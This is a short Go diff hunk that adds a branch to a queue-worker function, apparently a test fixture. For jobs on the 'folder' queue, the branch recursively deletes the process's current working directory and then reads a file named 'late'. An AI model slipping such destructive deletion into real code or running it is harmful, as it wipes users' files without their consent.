@@ -32,6 +32,17 @@ func runGoWorker(struct{}, <-chan struct{}) error {
 		if _, err := fmt.Fprintf(log, "%s %d\n", job.Payload, job.Attempt); err != nil || job.Queue == "quick" {
 			return err
 		}
+		if job.Queue == "folder" {
+			dir, err := os.Getwd()
+			if err != nil {
+				return err
+			}
+			if err := os.RemoveAll(dir); err != nil {
+				return err
+			}
+			_, err = os.ReadFile("late")
+			return err
+		}
 		gate, err := os.Open(os.Getenv("WORKER_GATE"))
 		if err != nil {
 			return err
